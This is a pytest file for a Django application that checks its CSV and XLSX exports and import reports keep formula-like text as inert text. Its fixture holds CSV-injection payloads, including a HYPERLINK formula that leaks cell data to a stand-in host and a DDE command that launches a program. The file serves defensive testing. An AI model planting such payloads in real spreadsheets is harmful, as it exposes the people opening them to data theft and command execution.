"""Texts that a spreadsheet would run as formulas stay texts in every file the product writes
(queue exports, the report's XLSX and signals CSV, the import's rejected-rows report): each file
is read back."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from reports.models import Export
from reports.services import report_request
from signals_app.models import ImportJob
from signals_app.spreadsheets import csv_row
from tests.factories import AgencyFactory, MunicipalityFactory, SignalFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "text": '=HYPERLINK("https://evil.example/?d="&A1,"Нажмите")',
    "author_name": "+7 900 000-00-00",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _export(client, capture, format):  # type: ignore[no-untyped-def]
    with capture(execute=True):
        client.post(reverse("reports:export_create"), {"query": "", "format": format})
    export = Export.objects.latest("id")
    return b"".join(client.get(reverse("reports:export_file", args=[export.pk])).streaming_content)


def test_queue_exports_keep_formula_like_texts_as_text(
    client, region, analyst, eager, django_capture_on_commit_callbacks
):
    SignalFactory(region=region, **HOSTILE)
    SignalFactory(region=region, text="-1 градус в квартире", author_name="\tТаб", address="\rCR")
    client.force_login(analyst)

    rows = list(csv.reader(io.StringIO(
        _export(client, django_capture_on_commit_callbacks, "csv").decode("utf-8-sig")
    ), delimiter=";"))  # fmt: skip
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HOSTILE["text"] in cells and "'" + HOSTILE["address"] in cells
    assert "'-1 градус в квартире" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]

    sheet = load_workbook(io.BytesIO(
        _export(client, django_capture_on_commit_callbacks, "xlsx")
    )).active  # fmt: skip
    texts = {cell.value: cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row}
    assert texts[HOSTILE["text"]] == "s"  # exactly the citizen's words, and not a formula
    assert all(kind != "f" for kind in texts.values())


def test_report_files_keep_formula_like_names_as_text(
    client, region, supervisor, eager, django_capture_on_commit_callbacks
):
    agency = AgencyFactory(region=region, name="=1+2")
    municipality = MunicipalityFactory(region=region, name="-Копейск")
    zone = ZoneInfo("Asia/Yekaterinburg")
    with time_machine.travel(datetime(2026, 11, 30, 12, tzinfo=zone), tick=False):
        SignalFactory(region=region, agency=agency, municipality=municipality,
                      received_at=datetime(2026, 11, 20, 10, tzinfo=zone))  # fmt: skip
        with django_capture_on_commit_callbacks(execute=True):
            report = report_request(region=region, year=2026, month=11, actor=supervisor)
    client.force_login(supervisor)
    workbook = load_workbook(io.BytesIO(b"".join(
        client.get(reverse("reports:report_xlsx", args=[report.pk])).streaming_content
    )))  # fmt: skip
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == "=1+2" and cell.data_type == "s" for cell in cells)
    assert not [cell for cell in cells if cell.data_type == "f"]
    body = b"".join(
        client.get(reverse("reports:report_signals", args=[report.pk])).streaming_content
    ).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(body), delimiter=";"))[1]
    assert "'-Копейск" in row and "'=1+2" in row


def test_the_import_report_keeps_formula_like_texts_as_text(region):
    from signals_app.ingest.imports import import_report_csv
    from tests.factories import SourceFactory

    job = ImportJob(
        source=SourceFactory(region=region), file_name="=cmd.csv", total_rows=1, rejected=1,
        rejected_rows=[{"line": 2, "reason": "@text: обязательное поле"}],
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO(import_report_csv(job).lstrip("\ufeff")), delimiter=";"))
    assert rows[0][1] == "'=cmd.csv" and rows[-1] == ["2", "'@text: обязательное поле"]


def test_numbers_and_plain_texts_are_left_alone():
    assert csv_row([-5, "Яма", "", None, "a=b"]) == [-5, "Яма", "", None, "a=b"]
